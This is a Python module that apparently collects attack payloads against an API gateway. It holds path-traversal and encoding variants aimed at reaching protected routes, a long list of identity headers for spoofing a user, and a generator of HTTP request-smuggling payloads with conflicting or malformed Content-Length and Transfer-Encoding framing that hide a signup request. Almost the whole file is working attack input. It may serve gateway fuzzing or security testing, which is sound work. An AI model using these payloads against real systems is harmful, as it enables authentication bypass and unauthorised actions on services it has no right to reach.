"""What attackers write on the wire to get past a gateway: paths, headers, framing."""

from itertools import product

DOTS = (
    *("..", "%2e%2e", "%2E%2e", ".%2e", "%252e%252e", "%c0%ae%c0%ae", "%uff0e%uff0e", "..%00"),
    *("..;", "..%3b", "%2e.", ".", "%2e", "..%c0%af"),
)
SLASHES = ("/", "%2f", "%5c", "\\", "//", "%252f")
BEHIND = ("health/live", "user/me")
"""A path that services serve to whoever reaches them, and one that wants a token."""

PATHS: tuple[str, ...] = (
    *(f"/auth/{dots}{slash}health/live" for dots, slash in product(DOTS, SLASHES)),
    *(f"/auth{slash}{dots}/{path}" for dots in DOTS[:4] for slash in SLASHES for path in BEHIND),
    *(f"/auth/signup{end}" for end in ("/", "//", "%00", "%20", ";x=1", "%0d%0a", "\\", "/.", "%")),
    *(f"{start}user/me" for start in ("//", "/./", "/%2f", "/\\", "///", "/%09", "/%20", "/;/")),
    *("/%75ser/me", "/user%2fme", "/user%252fme", "/user/me%00", "/user/me%20", "/user/me;a=b"),
    *("http://x//user/me", "http://x/auth/%2e%2e/user/me", "evil.example/auth/x", "*", "user/me"),
    *("/USER/me/", "/user/me/", "/user/.me/..", "/user/me%23", "/user/me%3fx", "/user/m%65"),
)
"""Targets that two servers could read differently."""

IDENTITY_HEADERS = (
    *("X-User-Id", "X-User", "X-UserId", "X_User_Id", "X-Authenticated-User", "X-Auth-User"),
    *("X-Authenticated-Userid", "X-Auth-Request-User", "X-Auth-Request-Email", "X-Remote-User"),
    *("Remote-User", "X-Forwarded-User", "X-Forwarded-Email", "X-Forwarded-Preferred-Username"),
    *("X-Consumer-Id", "X-Consumer-Custom-Id", "X-Consumer-Username", "X-Account-Id", "X-Subject"),
    *("X-Sub", "X-Session-Id", "X-Sid", "X-Role", "X-User-Role", "X-Roles", "X-Scopes"),
    *("X-Jwt-Payload", "X-Jwt-Claims", "X-Endpoint-Api-Userinfo", "X-Apigateway-Api-Userinfo"),
    *("X-Goog-Authenticated-User-Id", "X-Ms-Client-Principal-Id", "X-Amzn-Oidc-Identity"),
    *("X-Original-Url", "X-Rewrite-Url", "X-Http-Method-Override"),
)

_HIDDEN = b"POST /auth/signup HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


def hidden(email: str) -> bytes:
    """Return a whole request that signs somebody up, for a server to be tricked into."""
    body = b'{"email":"%b"}' % email.encode()
    return _HIDDEN + b"Content-Length: %d\r\n\r\n" % len(body) + body


def smuggling(email: str) -> list[bytes]:
    """Return requests with `hidden` where one server sees a body and another the next request."""
    inside = hidden(email)
    chunked = b"0\r\n\r\n" + inside
    lengths = [
        b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(chunked),
        b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n" % len(chunked),
        b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(inside),
        b"Content-Length: %d\r\nContent-Length: 0\r\n" % len(inside),
        b"Content-Length: 0, %d\r\n" % len(inside),
        b"Content-Length: +%d\r\n" % len(inside),
        b"Content-Length: -1\r\n",
        b"Content-Length: 0x%x\r\n" % len(inside),
        b"Content-Length: 1 0\r\n",
        b"Content-Length : %d\r\n" % len(inside),
        b"Content-Length: \xc2\xb2\r\n",
        b"Transfer-Encoding : chunked\r\n",
        b"Transfer-Encoding: xchunked\r\n",
        b"Transfer-Encoding: chunked, identity\r\n",
        b"Transfer-Encoding: identity\r\nContent-Length: 5\r\n",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"Transfer-Encoding:\x0bchunked\r\n",
        b"Transfer-Encoding: \x00chunked\r\n",
        b"X: y\rTransfer-Encoding: chunked\r\n",
        b"X: y\nContent-Length: %d\r\n\r\n" % len(inside),
        b"Transfer-Encoding: chunked\r\n folded: x\r\n",
    ]
    heads = [_request(line) + chunked for line in lengths]
    chunks = (b"-1\r\n", b"0x0\r\n", b"1;\n\r\n", b"ffffffffffffffffff\r\n", b"0 \n", b"g\r\n")
    bodies = [_request(b"Transfer-Encoding: chunked\r\n") + each + inside for each in chunks]
    return heads + bodies


def _request(framing: bytes) -> bytes:
    start = b"POST /auth/refresh HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    return start + framing + b"\r\n"
